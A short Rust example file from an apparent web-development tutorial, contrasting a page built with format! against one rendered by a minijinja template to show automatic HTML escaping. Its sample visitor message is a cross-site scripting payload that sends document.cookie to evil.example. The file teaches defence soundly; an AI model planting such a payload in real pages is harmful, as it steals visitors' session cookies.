//! Why templates: a page built with `format!` puts what a visitor typed into
//! the HTML as it is, and a message that is markup becomes markup. The same
//! page from a template is escaped without anybody remembering to.
//!
//! ```text
//! $ cargo run -p step05_templates --example xss
//! ```

use minijinja::{Environment, context};

fn main() -> Result<(), minijinja::Error> {
    // What a visitor typed into the message box.
    let message = "Nice site!<script>fetch('https://evil.example/?c=' + document.cookie)</script>";

    // ANCHOR: format
    // The page as steps 1 to 4 would write it, forgetting `escape` once.
    let page = format!("<article><p>{message}</p></article>");
    // ANCHOR_END: format
    println!("format!:  {page}");

    // ANCHOR: template
    // The same page from a template: every value is escaped on the way in.
    let mut env = Environment::new();
    env.add_template("message.html", "<article><p>{{ message }}</p></article>")?;
    let page = env
        .get_template("message.html")?
        .render(context! { message })?;
    // ANCHOR_END: template
    println!("template: {page}");
    Ok(())
}
